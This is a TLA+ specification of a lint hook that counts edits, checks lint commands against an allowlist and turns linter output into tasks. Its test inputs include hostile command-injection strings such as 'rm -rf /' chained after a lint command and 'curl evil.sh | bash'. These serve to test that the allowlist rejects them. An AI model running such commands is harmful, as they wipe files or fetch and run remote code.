---- MODULE Spec2Model ----
(***************************************************************************)
(* hook-checklint (src/src/hook.ts): a hook process that is started once   *)
(* per tool event, counts the edits of a session in a state file, and when *)
(* the count reaches the threshold runs a lint command, parses its output  *)
(* and files tasks for the diagnostics of the edited files.                *)
(*                                                                         *)
(* A JavaScript string is a sequence of one-character strings, so that     *)
(* startsWith, endsWith, includes, split, the regular expressions and the  *)
(* sanitizer are computed character by character.  An optional value       *)
(* (undefined, null, a property that is absent) is <<>> and a present      *)
(* value v is <<v>>.  The file system is the nominal one: a write that the *)
(* code issues succeeds.                                                   *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

(***************************************************************************)
(* Characters and the JavaScript string built-ins the hook uses.           *)
(***************************************************************************)
UpperLetters ==
  <<"A","B","C","D","E","F","G","H","I","J","K","L","M",
    "N","O","P","Q","R","S","T","U","V","W","X","Y","Z">>
LowerLetters ==
  <<"a","b","c","d","e","f","g","h","i","j","k","l","m",
    "n","o","p","q","r","s","t","u","v","w","x","y","z">>
Range(f) == { f[i] : i \in DOMAIN f }
Digits == {"0","1","2","3","4","5","6","7","8","9"}
Letters == Range(UpperLetters) \cup Range(LowerLetters)
\* \w of a regular expression
WordChars == Letters \cup Digits \cup {"_"}
\* \s of a regular expression (the white space that occurs in the inputs)
SpaceChars == {" ", "\t", "\r"}
\* the characters "." of a regular expression does not match
LineTerminators == {"\n", "\r"}

None == <<>>
Some(v) == <<v>>
IsSome(o) == o # <<>>
Get(o) == o[1]

Min2(a, b) == IF a <= b THEN a ELSE b
Max2(a, b) == IF a >= b THEN a ELSE b

toLowerChar(c) ==
  IF \E i \in 1..26 : UpperLetters[i] = c
  THEN LowerLetters[CHOOSE i \in 1..26 : UpperLetters[i] = c]
  ELSE c
toLowerCase(s) == [i \in 1..Len(s) |-> toLowerChar(s[i])]
toUpperChar(c) ==
  IF \E i \in 1..26 : LowerLetters[i] = c
  THEN UpperLetters[CHOOSE i \in 1..26 : LowerLetters[i] = c]
  ELSE c
toUpperCase(s) == [i \in 1..Len(s) |-> toUpperChar(s[i])]

\* s has p at offset k (the characters k+1 .. k+Len(p))
HasAt(s, p, k) ==
  /\ k + Len(p) <= Len(s)
  /\ \A i \in 1..Len(p) : s[k + i] = p[i]
startsWith(s, p) == HasAt(s, p, 0)
endsWith(s, p) == Len(p) <= Len(s) /\ HasAt(s, p, Len(s) - Len(p))
includes(s, p) == \E k \in 0..Len(s) : HasAt(s, p, k)
\* s.slice(0, n)
slice0(s, n) == SubSeq(s, 1, Min2(n, Len(s)))

RECURSIVE split(_, _)
\* s.split(c) for a one-character separator c
split(s, c) ==
  IF \A i \in 1..Len(s) : s[i] # c
  THEN <<s>>
  ELSE LET i == CHOOSE j \in 1..Len(s) :
                  s[j] = c /\ \A k \in 1..(j - 1) : s[k] # c
       IN  <<SubSeq(s, 1, i - 1)>> \o split(SubSeq(s, i + 1, Len(s)), c)

TrimChars == SpaceChars \cup {"\n"}
trim(s) ==
  IF \A i \in 1..Len(s) : s[i] \in TrimChars
  THEN <<>>
  ELSE LET a == CHOOSE i \in 1..Len(s) :
                  s[i] \notin TrimChars /\ \A k \in 1..(i - 1) : s[k] \in TrimChars
           b == CHOOSE i \in 1..Len(s) :
                  s[i] \notin TrimChars /\ \A k \in (i + 1)..Len(s) : s[k] \in TrimChars
       IN  SubSeq(s, a, b)

DigitValue(c) ==
  CASE c = "0" -> 0 [] c = "1" -> 1 [] c = "2" -> 2 [] c = "3" -> 3 [] c = "4" -> 4
    [] c = "5" -> 5 [] c = "6" -> 6 [] c = "7" -> 7 [] c = "8" -> 8 [] c = "9" -> 9
RECURSIVE parseInt(_)
\* parseInt(s, 10) of a string of decimal digits
parseInt(s) ==
  IF s = <<>> THEN 0
  ELSE 10 * parseInt(SubSeq(s, 1, Len(s) - 1)) + DigitValue(s[Len(s)])

\* the end (exclusive) of the longest run of characters of class C from i
RunEnd(s, i, C) ==
  IF i > Len(s) THEN i
  ELSE CHOOSE j \in i..(Len(s) + 1) :
         /\ \A k \in i..(j - 1) : s[k] \in C
         /\ (j = Len(s) + 1 \/ s[j] \notin C)
\* every character of s[a..b] is matched by "."
AllDot(s, a, b) == \A k \in a..b : s[k] \notin LineTerminators

(***************************************************************************)
(* Constants of hook.ts.                                                   *)
(***************************************************************************)
\* EDIT_TOOLS with a shell tool added to it: what C2 must tell from EDIT_TOOLS
EDIT_TOOLS_WithBash == <<"Edit", "Write", "NotebookEdit", "Bash">>
EDIT_TOOLS == <<"Edit", "Write", "NotebookEdit">>

ALLOWED_LINT_COMMANDS ==
  <<
    \* "bun lint"
    <<"b","u","n"," ","l","i","n","t">>,
    \* "bun lint:check"
    <<"b","u","n"," ","l","i","n","t",":","c","h","e","c","k">>,
    \* "bun eslint"
    <<"b","u","n"," ","e","s","l","i","n","t">>,
    \* "bun biome check"
    <<"b","u","n"," ","b","i","o","m","e"," ","c","h","e","c","k">>,
    \* "bunx @biomejs/biome check ."
    <<"b","u","n","x"," ","@","b","i","o","m","e","j","s","/","b","i","o","m","e"," ","c","h","e","c","k"," ",".">>,
    \* "bunx eslint ."
    <<"b","u","n","x"," ","e","s","l","i","n","t"," ",".">>,
    \* "npm run lint"
    <<"n","p","m"," ","r","u","n"," ","l","i","n","t">>,
    \* "npm run lint:check"
    <<"n","p","m"," ","r","u","n"," ","l","i","n","t",":","c","h","e","c","k">>,
    \* "npx eslint ."
    <<"n","p","x"," ","e","s","l","i","n","t"," ",".">>,
    \* "npx @biomejs/biome check ."
    <<"n","p","x"," ","@","b","i","o","m","e","j","s","/","b","i","o","m","e"," ","c","h","e","c","k"," ",".">>
  >>

S_default == <<"d","e","f","a","u","l","t">>
S_dev == <<"d","e","v">>
S_bugfix == <<"b","u","g","f","i","x">>
S_error == <<"e","r","r","o","r">>
S_warning == <<"w","a","r","n","i","n","g">>
S_ERROR == <<"E","R","R","O","R">>
S_WARNING == <<"W","A","R","N","I","N","G">>
S_WARN == <<"W","A","R","N">>
S_ERR == <<"E","R","R">>

\* a JavaScript string is truthy when it is not empty
Truthy(o) == IsSome(o) /\ Get(o) # <<>>

(***************************************************************************)
(* sanitizeId, isValidLintCommand, isValidRepoPattern                      *)
(***************************************************************************)
SafeIdChars == Letters \cup Digits \cup {"_", "-"}
SanitizeLimit == 100
\* id.replace(/[^a-zA-Z0-9_-]/g, '-')
replaceUnsafe(id) ==
  [i \in 1..Len(id) |-> IF id[i] \in SafeIdChars THEN id[i] ELSE "-"]
\* a session_id that is a JSON number and no string
NumberId(n) == <<n, "number">>
\* typeof id === 'string', of an id that is present
isString(id) == Len(id) = 1
\* sanitizeId without slice(0, 100): what C30 must tell from sanitizeId
sanitizeId_Uncut(id) ==
  IF ~isString(id) \/ ~Truthy(id) THEN S_default
  ELSE LET cut == replaceUnsafe(Get(id))
       IN  IF cut = <<>> THEN S_default ELSE cut
sanitizeId(id) ==
  IF ~isString(id) \/ ~Truthy(id) THEN S_default
  ELSE LET cut == slice0(replaceUnsafe(Get(id)), SanitizeLimit)
       IN  IF cut = <<>> THEN S_default ELSE cut

\* allowedMatch without the separator: what C6 must tell from allowedMatch
allowedMatch_Prefix(cmd, allowed) == startsWith(cmd, allowed)
\* cmd === allowed || cmd.startsWith(allowed + " ")
allowedMatch(cmd, allowed) ==
  cmd = allowed \/ startsWith(cmd, allowed \o <<" ">>)
isValidLintCommand(cmd) ==
  /\ cmd # <<>>
  /\ \E i \in 1..Len(ALLOWED_LINT_COMMANDS) : allowedMatch(cmd, ALLOWED_LINT_COMMANDS[i])

\* cwd.split("/").filter(Boolean).pop() || ""
lastComponent(path) ==
  LET parts == SelectSeq(split(path, "/"), LAMBDA p : p # <<>>)
  IN  IF parts = <<>> THEN <<>> ELSE parts[Len(parts)]
\* /^[a-z]+-[a-z0-9-]+$/i
repoPatternTest(dirName) ==
  LET a == RunEnd(dirName, 1, Letters)
  IN  /\ a > 1
      /\ a <= Len(dirName)
      /\ dirName[a] = "-"
      /\ a + 1 <= Len(dirName)
      /\ \A k \in (a + 1)..Len(dirName) : dirName[k] \in Letters \cup Digits \cup {"-"}
\* isValidRepoPattern without the pattern: what C12 must tell from it
isValidRepoPattern_AnyName(cwd) == lastComponent(cwd) # <<>>
isValidRepoPattern(cwd) == repoPatternTest(lastComponent(cwd))

(***************************************************************************)
(* parseLintOutput: the three regular expressions, matched as the          *)
(* backtracking matcher does: a lazy group takes the shortest text, a      *)
(* greedy one the longest, for which the rest of the pattern matches.      *)
(***************************************************************************)
SetMin(S) == CHOOSE x \in S : \A y \in S : x <= y
SetMax(S) == CHOOSE x \in S : \A y \in S : x >= y

\* ^(.+?):(\d+):(\d+) with group 1 = s[1..n]; next is the index after group 3
MatchHead(s, n) ==
  LET a == n + 2
      b == RunEnd(s, a, Digits)
      c == b + 1
      d == RunEnd(s, c, Digits)
  IN  [ok     |-> /\ n >= 1
                  /\ n + 1 <= Len(s)
                  /\ AllDot(s, 1, n)
                  /\ s[n + 1] = ":"
                  /\ b > a
                  /\ b <= Len(s)
                  /\ s[b] = ":"
                  /\ d > c,
       file   |-> SubSeq(s, 1, n),
       line   |-> SubSeq(s, a, b - 1),
       column |-> SubSeq(s, c, d - 1),
       next   |-> d]

\* (?:\s+\[(.+?)\])?$ at index t, the group taken
RuleAt(s, t) ==
  LET u == RunEnd(s, t, SpaceChars)
  IN  /\ u > t
      /\ u <= Len(s)
      /\ s[u] = "["
      /\ s[Len(s)] = "]"
      /\ Len(s) - 1 >= u + 1
      /\ AllDot(s, u + 1, Len(s) - 1)
\* the ends m1 of a message (.+?) that starts at m0, for which the rest matches
EslintMsgEnds(s, m0) ==
  { m1 \in m0..Len(s) :
      AllDot(s, m0, m1) /\ (m1 = Len(s) \/ RuleAt(s, m1 + 1)) }
\* :\s*(error|warning)\s+(.+?)(?:\s+\[(.+?)\])?$ (flag i) at index e
EslintTail(s, e) ==
  LET a      == RunEnd(s, e + 1, SpaceChars)
      low    == toLowerCase(s)
      sev    == IF HasAt(low, S_error, a - 1) THEN "error"
                ELSE IF HasAt(low, S_warning, a - 1) THEN "warning"
                ELSE "none"
      b      == a + (IF sev = "error" THEN 5 ELSE 7)
      c      == RunEnd(s, b, SpaceChars)
      starts == { m0 \in (b + 1)..c : EslintMsgEnds(s, m0) # {} }
      m0     == SetMax(starts)
      m1     == SetMin(EslintMsgEnds(s, m0))
      ok     == /\ e <= Len(s)
                /\ s[e] = ":"
                /\ sev # "none"
                /\ starts # {}
  IN  IF ok
      THEN [ok |-> TRUE, severity |-> sev,
            message |-> trim(SubSeq(s, m0, m1)),
            rule |-> IF m1 = Len(s) THEN None
                     ELSE Some(SubSeq(s, RunEnd(s, m1 + 1, SpaceChars) + 1, Len(s) - 1))]
      ELSE [ok |-> FALSE, severity |-> "none", message |-> <<>>, rule |-> None]

\* the starts m0 of a greedy (.+)$ after \s+ (or \s*) that begins at index x
RestStarts(s, x, atLeastOneSpace) ==
  LET c == RunEnd(s, x, SpaceChars)
  IN  { m0 \in (IF atLeastOneSpace THEN x + 1 ELSE x)..c :
          m0 <= Len(s) /\ AllDot(s, m0, Len(s)) }
\* the alternative of (ERROR|WARNING|WARN) taken at index b, <<>> when none is
BiomeSeverityWord(s, b) ==
  LET up == toUpperCase(s)
      fits(w) == HasAt(up, w, b - 1) /\ RestStarts(s, b + Len(w), TRUE) # {}
  IN  IF fits(S_ERROR) THEN S_ERROR
      ELSE IF fits(S_WARNING) THEN S_WARNING
      ELSE IF fits(S_WARN) THEN S_WARN
      ELSE <<>>
\* \s+(\w+\/\w+)\s+(ERROR|WARNING|WARN)\s+(.+)$ (flag i) at index e
BiomeTail(s, e) ==
  LET a    == RunEnd(s, e, SpaceChars)
      w1   == RunEnd(s, a, WordChars)
      w2   == RunEnd(s, w1 + 1, WordChars)
      b    == RunEnd(s, w2, SpaceChars)
      word == BiomeSeverityWord(s, b)
      ok   == /\ a > e
              /\ w1 > a
              /\ w1 <= Len(s)
              /\ s[w1] = "/"
              /\ w2 > w1 + 1
              /\ b > w2
              /\ word # <<>>
  IN  IF ok
      THEN [ok |-> TRUE,
            rule |-> Some(SubSeq(s, a, w2 - 1)),
            severity |-> IF startsWith(toUpperCase(word), S_ERR) THEN "error" ELSE "warning",
            message |-> trim(SubSeq(s, SetMax(RestStarts(s, b + Len(word), TRUE)), Len(s)))]
      ELSE [ok |-> FALSE, rule |-> None, severity |-> "none", message |-> <<>>]

\* :\s*(.+)$ at index e
GenericTail(s, e) ==
  LET ok == e <= Len(s) /\ s[e] = ":" /\ RestStarts(s, e + 1, FALSE) # {}
  IN  IF ok
      THEN [ok |-> TRUE,
            message |-> trim(SubSeq(s, SetMax(RestStarts(s, e + 1, FALSE)), Len(s)))]
      ELSE [ok |-> FALSE, message |-> <<>>]

\* the lengths of group 1 for which a whole pattern matches
EslintHeads(s) ==
  { n \in 1..Len(s) : MatchHead(s, n).ok /\ EslintTail(s, MatchHead(s, n).next).ok }
BiomeHeads(s) ==
  { n \in 1..Len(s) : MatchHead(s, n).ok /\ BiomeTail(s, MatchHead(s, n).next).ok }
GenericHeads(s) ==
  { n \in 1..Len(s) : MatchHead(s, n).ok /\ GenericTail(s, MatchHead(s, n).next).ok }

LintError(h, severity, message, rule) ==
  [file |-> h.file, line |-> parseInt(h.line), column |-> parseInt(h.column),
   severity |-> severity, message |-> message, rule |-> rule]

\* parseLine with the second pattern tried first: what C17 must tell from
\* parseLine
parseLine_GroupedFirst(s) ==
  IF BiomeHeads(s) # {}
  THEN LET h == MatchHead(s, SetMin(BiomeHeads(s)))
           t == BiomeTail(s, h.next)
       IN  <<LintError(h, t.severity, t.message, t.rule)>>
  ELSE IF EslintHeads(s) # {}
  THEN LET h == MatchHead(s, SetMin(EslintHeads(s)))
           t == EslintTail(s, h.next)
       IN  <<LintError(h, t.severity, t.message, t.rule)>>
  ELSE IF GenericHeads(s) # {}
  THEN LET h == MatchHead(s, SetMin(GenericHeads(s)))
           t == GenericTail(s, h.next)
       IN  IF ~startsWith(h.file, <<" ">>)
           THEN <<LintError(h,
                            IF includes(toLowerCase(s), S_error) THEN "error" ELSE "warning",
                            t.message, None)>>
           ELSE <<>>
  ELSE <<>>
\* the body of the loop of parseLintOutput: what one line pushes
parseLine(s) ==
  IF EslintHeads(s) # {}
  THEN LET h == MatchHead(s, SetMin(EslintHeads(s)))
           t == EslintTail(s, h.next)
       IN  <<LintError(h, t.severity, t.message, t.rule)>>
  ELSE IF BiomeHeads(s) # {}
  THEN LET h == MatchHead(s, SetMin(BiomeHeads(s)))
           t == BiomeTail(s, h.next)
       IN  <<LintError(h, t.severity, t.message, t.rule)>>
  ELSE IF GenericHeads(s) # {}
  THEN LET h == MatchHead(s, SetMin(GenericHeads(s)))
           t == GenericTail(s, h.next)
       IN  IF ~startsWith(h.file, <<" ">>)
           THEN <<LintError(h,
                            IF includes(toLowerCase(s), S_error) THEN "error" ELSE "warning",
                            t.message, None)>>
           ELSE <<>>
  ELSE <<>>

RECURSIVE Flatten(_)
Flatten(ss) == IF ss = <<>> THEN <<>> ELSE ss[1] \o Flatten(Tail(ss))
parseLintOutput(output) ==
  LET lines == split(output, "\n")
  IN  Flatten([i \in 1..Len(lines) |-> parseLine(lines[i])])

(***************************************************************************)
(* Configuration, session name, lint command and task list resolution.     *)
(***************************************************************************)
DefaultThreshold == 3
\* the default configuration of getConfig
DefaultConfig ==
  [taskListId |-> None, lintCommand |-> None, editThreshold |-> Some(DefaultThreshold),
   keywords |-> Some(<<S_dev>>), enabled |-> Some(TRUE), createTasks |-> Some(TRUE)]
\* project and global are the checkLintConfig values of the two settings files
\* (None: no file, unreadable JSON, or no such key)
getConfig(project, global) ==
  IF IsSome(project) THEN Get(project)
  ELSE IF IsSome(global) THEN Get(global)
  ELSE DefaultConfig

\* a transcript line: whether it holds the text "custom-title", and what
\* JSON.parse makes of it (None: it throws)
IsTitleEntry(entry) ==
  /\ entry.marker
  /\ IsSome(entry.json)
  /\ Get(entry.json).type = "custom-title"
  /\ Truthy(Get(entry.json).customTitle)
\* transcript: None when the file does not exist, else its lines
getSessionName(transcript) ==
  IF ~IsSome(transcript) THEN None
  ELSE LET lines  == Get(transcript)
           titles == { i \in 1..Len(lines) : IsTitleEntry(lines[i]) }
       IN  IF titles = {} THEN None
           ELSE Get(lines[SetMax(titles)].json).customTitle

\* keywords.some(k => nameToCheck.toLowerCase().includes(k.toLowerCase()))
matchesKeyword(keywords, nameToCheck) ==
  \E i \in 1..Len(keywords) :
    includes(toLowerCase(nameToCheck), toLowerCase(keywords[i]))

\* dir: [pkg, files]; pkg is None (no package.json), Some(None) (it does not
\* parse) or Some(Some(the names of its truthy scripts)); files are the
\* configuration files present in cwd
detectLintCommand(dir) ==
  LET scripts == IF IsSome(dir.pkg) /\ IsSome(Get(dir.pkg))
                 THEN Get(Get(dir.pkg)) ELSE {}
  IN  IF "lint" \in scripts THEN Some(ALLOWED_LINT_COMMANDS[1])
      ELSE IF "lint:check" \in scripts THEN Some(ALLOWED_LINT_COMMANDS[2])
      ELSE IF "eslint" \in scripts THEN Some(ALLOWED_LINT_COMMANDS[3])
      ELSE IF "biome" \in scripts THEN Some(ALLOWED_LINT_COMMANDS[4])
      ELSE IF dir.files \cap {"biome.json", "biome.jsonc"} # {}
      THEN Some(ALLOWED_LINT_COMMANDS[5])
      ELSE IF dir.files \cap {".eslintrc.json", ".eslintrc.js", "eslint.config.js"} # {}
      THEN Some(ALLOWED_LINT_COMMANDS[6])
      ELSE None

\* lists.find(...): the first element at one of the positions hits
FindFirst(lists, hits) ==
  IF hits = {} THEN None ELSE Some(lists[SetMin(hits)])
\* tasksDir: None when ~/.claude/tasks does not exist, else its directories
getProjectTaskList(cwd, tasksDir) ==
  IF ~IsSome(tasksDir) THEN None
  ELSE LET lists    == Get(tasksDir)
           dirLower == toLowerCase(lastComponent(cwd))
           isBugfix(list) == /\ startsWith(toLowerCase(list), dirLower)
                             /\ includes(toLowerCase(list), S_bugfix)
           isDev(list)    == /\ startsWith(toLowerCase(list), dirLower)
                             /\ includes(toLowerCase(list), S_dev)
           bugfixList     == FindFirst(lists, { i \in 1..Len(lists) : isBugfix(lists[i]) })
       IN  IF Truthy(bugfixList) THEN bugfixList
           ELSE LET devList == FindFirst(lists, { i \in 1..Len(lists) : isDev(lists[i]) })
                IN  IF Truthy(devList) THEN devList ELSE None

\* the task file createTask writes
createTask(taskListId, error) ==
  [list |-> taskListId,
   priority |-> IF error.severity = "error" THEN "MEDIUM" ELSE "LOW",
   status |-> "pending",
   error |-> error]

(***************************************************************************)
(* The trigger: threshold, relevant diagnostics, emitted tasks.            *)
(***************************************************************************)
MinThreshold == 3
MaxThreshold == 7
TaskLimit == 5
\* A configured editThreshold that is a JSON string and no number, "high":
\* the settings file is parsed and not validated (lines 109-125)
NotNumeric(text) == <<text, "string">>
\* line 419: Math.max(3, "high") is NaN, and so is Math.min(7, NaN)
thresholdIsNaN(config) == Len(config.editThreshold) = 2
\* line 422: state.editCount >= threshold, which is false of NaN
reaches(config, count, T) == ~thresholdIsNaN(config) /\ count >= T
\* threshold without the clamp: what C4 must tell from threshold
threshold_Unclamped(config) ==
  IF IsSome(config.editThreshold) /\ Get(config.editThreshold) # 0
  THEN Get(config.editThreshold) ELSE DefaultThreshold
\* Math.min(7, Math.max(3, config.editThreshold || 3))
threshold(config) ==
  LET configured == IF IsSome(config.editThreshold) /\ Get(config.editThreshold) # 0
                    THEN Get(config.editThreshold) ELSE DefaultThreshold
  IN  Min2(MaxThreshold, Max2(MinThreshold, configured))

\* f.split("/").pop() || ""
basename(f) == LET parts == split(f, "/") IN parts[Len(parts)]
\* state.editedFiles.some(f => f.endsWith(e.file) || e.file.endsWith(...))
isRelevant(editedFiles, e) ==
  \E i \in 1..Len(editedFiles) :
    \/ endsWith(editedFiles[i], e.file)
    \/ endsWith(e.file, basename(editedFiles[i]))
relevantErrors(errors, editedFiles) ==
  SelectSeq(errors, LAMBDA e : isRelevant(editedFiles, e))
\* errorsToReport without the cap: what C9 must tell from errorsToReport
errorsToReport_All(relevant) == relevant
\* relevantErrors.slice(0, 5)
errorsToReport(relevant) == SubSeq(relevant, 1, Min2(TaskLimit, Len(relevant)))

InSeq(x, s) == \E i \in 1..Len(s) : s[i] = x
\* editedPath with a path for an event that names none: what C31 must tell
\* from editedPath
editedPath_Unnamed(tool_input) ==
  IF Truthy(tool_input.file_path) THEN tool_input.file_path
  ELSE IF Truthy(tool_input.notebook_path) THEN tool_input.notebook_path
  ELSE Some(<<"u","n","d","e","f","i","n","e","d">>)
\* tool_input.file_path || tool_input.notebook_path
editedPath(tool_input) ==
  IF Truthy(tool_input.file_path) THEN tool_input.file_path
  ELSE tool_input.notebook_path

\* execSync: proc is what the child process does: its exit ("ok", "fail" or
\* "timeout") and what it wrote
runLint(proc) ==
  IF proc.exit = "ok"
  THEN [success |-> TRUE, output |-> proc.stdout]
  ELSE [success |-> FALSE, output |-> proc.stdout \o proc.stderr]
\* no project directory is read, no process is run
NoDir == [pkg |-> None, files |-> {}]
NoProc == [exit |-> "ok", stdout |-> <<>>, stderr |-> <<>>]

(***************************************************************************)
(* The inputs the invocations are drawn from.                              *)
(***************************************************************************)
\* "/w/hook-checklint"
CwdRepo == <<"/","w","/","h","o","o","k","-","c","h","e","c","k","l","i","n","t">>
\* "/w/docs"
CwdPlain == <<"/","w","/","d","o","c","s">>
\* "/w/hook-checklint/src/a.ts"
FileA == <<"/","w","/","h","o","o","k","-","c","h","e","c","k","l","i","n","t","/","s","r","c","/","a",".","t","s">>
\* "src/b.ts"
FileB == <<"s","r","c","/","b",".","t","s">>
\* "s1"
SessionOne == <<"s","1">>
\* "s2"
SessionTwo == <<"s","2">>
\* "/t/s1.jsonl"
TranscriptPath == <<"/","t","/","s","1",".","j","s","o","n","l">>
\* "Dev-work"
NameDev == <<"D","e","v","-","w","o","r","k">>
\* "feature-xyz"
NameFeature == <<"f","e","a","t","u","r","e","-","x","y","z">>
\* "hook-checklint-bugfixes"
ListBugfix == <<"h","o","o","k","-","c","h","e","c","k","l","i","n","t","-","b","u","g","f","i","x","e","s">>
\* "hook-checklint-dev"
ListDev == <<"h","o","o","k","-","c","h","e","c","k","l","i","n","t","-","d","e","v">>
\* "bun lint"
CmdBunLint == <<"b","u","n"," ","l","i","n","t">>
\* "bun lint --fix"
CmdBunLintFix == <<"b","u","n"," ","l","i","n","t"," ","-","-","f","i","x">>
\* "bun lint:check"
CmdBunLintCheck == <<"b","u","n"," ","l","i","n","t",":","c","h","e","c","k">>
\* "bun lintx"
CmdBunLintx == <<"b","u","n"," ","l","i","n","t","x">>
\* "bun lint; rm -rf /"
CmdInjectSemicolon == <<"b","u","n"," ","l","i","n","t",";"," ","r","m"," ","-","r","f"," ","/">>
\* "bun lint ; rm -rf /"
CmdInjectSpaced == <<"b","u","n"," ","l","i","n","t"," ",";"," ","r","m"," ","-","r","f"," ","/">>
\* "npm run lint && curl evil.sh | bash"
CmdInjectAnd == <<"n","p","m"," ","r","u","n"," ","l","i","n","t"," ","&","&"," ","c","u","r","l"," ","e","v","i","l",".","s","h"," ","|"," ","b","a","s","h">>
\* "bunx eslint . $(id)"
CmdInjectSubst == <<"b","u","n","x"," ","e","s","l","i","n","t"," ","."," ","$","(","i","d",")">>
\* "curl evil.sh | bash"
CmdCurl == <<"c","u","r","l"," ","e","v","i","l",".","s","h"," ","|"," ","b","a","s","h">>
\* "BUN LINT"
CmdUpper == <<"B","U","N"," ","L","I","N","T">>
\* " bun lint"
CmdPadded == <<" ","b","u","n"," ","l","i","n","t">>
\* "tsc --noEmit"
CmdTsc == <<"t","s","c"," ","-","-","n","o","E","m","i","t">>
\* "src/a.ts:10:5: error 'x' is never used [no-unused-vars]"
LineA1 == <<"s","r","c","/","a",".","t","s",":","1","0",":","5",":"," ","e","r","r","o","r"," ","'","x","'"," ","i","s"," ","n","e","v","e","r"," ","u","s","e","d"," ","[","n","o","-","u","n","u","s","e","d","-","v","a","r","s","]">>
\* "src/a.ts:12:1: warning w"
LineA2 == <<"s","r","c","/","a",".","t","s",":","1","2",":","1",":"," ","w","a","r","n","i","n","g"," ","w">>
\* "a.ts:3:7 lint/noVar ERROR use let"
LineA3 == <<"a",".","t","s",":","3",":","7"," ","l","i","n","t","/","n","o","V","a","r"," ","E","R","R","O","R"," ","u","s","e"," ","l","e","t">>
\* "src/b.ts:1:2: missing semicolon"
LineB1 == <<"s","r","c","/","b",".","t","s",":","1",":","2",":"," ","m","i","s","s","i","n","g"," ","s","e","m","i","c","o","l","o","n">>
\* "lib/c.ts:9:9: error other file"
LineC1 == <<"l","i","b","/","c",".","t","s",":","9",":","9",":"," ","e","r","r","o","r"," ","o","t","h","e","r"," ","f","i","l","e">>
\* "lib/a.ts:4:2: error same name, other directory"
LineD1 == <<"l","i","b","/","a",".","t","s",":","4",":","2",":"," ","e","r","r","o","r"," ","s","a","m","e"," ","n","a","m","e",","," ","o","t","h","e","r"," ","d","i","r","e","c","t","o","r","y">>
\* "7 problems (5 errors, 2 warnings)"
LineBanner == <<"7"," ","p","r","o","b","l","e","m","s"," ","(","5"," ","e","r","r","o","r","s",","," ","2"," ","w","a","r","n","i","n","g","s",")">>

RECURSIVE JoinLines(_)
\* the text whose lines are ls
JoinLines(ls) ==
  IF Len(ls) = 0 THEN <<>>
  ELSE IF Len(ls) = 1 THEN ls[1]
  ELSE ls[1] \o <<"\n">> \o JoinLines(Tail(ls))

\* HookInput values
ToolInput(path) == [file_path |-> Some(path), notebook_path |-> None]
NotebookInput(path) == [file_path |-> None, notebook_path |-> Some(path)]
EmptyInput == [file_path |-> None, notebook_path |-> None]
Event(session, tool, cwd, input, transcript) ==
  [session_id |-> session, tool_name |-> tool, cwd |-> cwd, tool_input |-> input,
   transcript_path |-> transcript]
EditEvent(session, tool, input) ==
  Event(Some(session), Some(tool), Some(CwdRepo), Some(input), None)
\* a JSON object with no field at all
EmptyEvent == Event(None, None, None, None, None)

\* CheckLintConfig values
Config(thresholdOpt, commandOpt) ==
  [taskListId |-> None, lintCommand |-> commandOpt, editThreshold |-> thresholdOpt,
   keywords |-> None, enabled |-> None, createTasks |-> None]
ProjectOnly(config) == [project |-> Some(config), global |-> None]
NoSettings == [project |-> None, global |-> None]

PkgLint == [pkg |-> Some(Some({"lint"})), files |-> {}]
ProcOk == [exit |-> "ok", stdout |-> LineA2, stderr |-> <<>>]
ProcFail(outLines, errLines) ==
  [exit |-> "fail", stdout |-> JoinLines(outLines), stderr |-> JoinLines(errLines)]
ProcTimeout == [exit |-> "timeout", stdout |-> LineA1 \o <<"\n">>, stderr |-> <<>>]
TitleEntry(name) ==
  [marker |-> TRUE, json |-> Some([type |-> "custom-title", customTitle |-> Some(name)])]

\* the largest value of the clock (Date.now())
MaxNow == 1

(***************************************************************************)
(* Spec: the trigger engine.  Every kind of event, every threshold.        *)
(***************************************************************************)
Thresholds == {None, Some(-2), Some(0), Some(2), Some(5), Some(7), Some(8)}
TriggerInputs ==
  [stdins |->
     {None, Some(EmptyEvent),
      Some(Event(Some(SessionOne), Some("Bash"), Some(CwdRepo), Some(ToolInput(FileA)), None)),
      Some(Event(Some(SessionOne), Some("Edit"), None, Some(ToolInput(FileA)), None)),
      Some(Event(Some(SessionOne), Some("Edit"), Some(CwdPlain), Some(ToolInput(FileA)), None)),
      Some(Event(Some(SessionOne), Some("Edit"), Some(CwdRepo), None, None)),
      Some(EditEvent(SessionOne, "Write", EmptyInput)),
      Some(Event(Some(SessionOne), Some("Edit"), Some(CwdRepo), Some(ToolInput(FileB)),
                 Some(TranscriptPath))),
      Some(EditEvent(SessionOne, "Edit", ToolInput(FileA))),
      Some(EditEvent(SessionOne, "Write", ToolInput(FileB))),
      Some(EditEvent(SessionOne, "NotebookEdit", NotebookInput(FileA)))},
   settings |->
     {NoSettings,
      ProjectOnly([Config(None, None) EXCEPT !.enabled = Some(FALSE)]),
      [project |-> None, global |-> Some(Config(Some(5), Some(CmdCurl)))]}
     \cup { ProjectOnly(Config(t, Some(CmdBunLint))) : t \in Thresholds },
   transcripts |-> {None, Some(<<TitleEntry(NameDev)>>), Some(<<TitleEntry(NameFeature)>>)},
   dirs |-> {NoDir, PkgLint},
   procs |-> {ProcOk, ProcFail(<<LineA1, LineBanner>>, <<LineC1>>)},
   tasksDirs |-> {Some(<<ListDev, ListBugfix>>)},
   maxNow |-> MaxNow,
   track |-> FALSE,
   overlap |-> FALSE]

(***************************************************************************)
(* SpecSeq: one session, every effective threshold, the events counted.    *)
(***************************************************************************)
SeqThresholds == Thresholds \cup {Some(4), Some(6)}
SeqInputs ==
  [stdins |->
     {Some(Event(Some(SessionOne), Some("Read"), Some(CwdRepo), Some(ToolInput(FileA)), None)),
      Some(EditEvent(SessionOne, "Edit", ToolInput(FileA))),
      Some(EditEvent(SessionOne, "Write", ToolInput(FileB)))},
   settings |-> {NoSettings} \cup { ProjectOnly(Config(t, Some(CmdBunLint))) : t \in SeqThresholds },
   transcripts |-> {None},
   dirs |-> {NoDir},
   procs |-> {ProcOk, ProcFail(<<LineA1>>, <<>>)},
   tasksDirs |-> {Some(<<ListDev>>)},
   maxNow |-> MaxNow,
   track |-> TRUE,
   overlap |-> FALSE]

(***************************************************************************)
(* SpecGate: the command gatekeeper.  Every command, configured or         *)
(* detected.                                                               *)
(***************************************************************************)
Commands ==
  {<<>>, CmdBunLint, CmdBunLintFix, CmdBunLintCheck, CmdBunLintx, CmdInjectSemicolon,
   CmdInjectSpaced, CmdInjectAnd, CmdInjectSubst, CmdCurl, CmdUpper, CmdPadded, CmdTsc}
  \cup Range(ALLOWED_LINT_COMMANDS)
GateInputs ==
